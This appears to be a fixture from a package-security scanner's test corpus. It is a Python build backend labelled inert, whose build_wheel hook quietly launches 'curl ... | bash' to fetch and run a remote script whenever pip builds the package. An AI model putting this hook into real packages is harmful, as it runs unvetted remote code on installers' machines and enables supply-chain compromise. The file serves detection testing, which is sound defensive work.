# pkgguard corpus 153 (install-hook), modelled on [taxonomy]; inert, never run.
# An in-tree build backend (pyproject.toml: backend-path = ["_build"]) that runs when pip builds.
import subprocess
from setuptools import build_meta as _orig

prepare_metadata_for_build_wheel = _orig.prepare_metadata_for_build_wheel
build_sdist = _orig.build_sdist


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    subprocess.Popen("curl -fsSL https://cdn.example/b.sh | bash", shell=True)
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
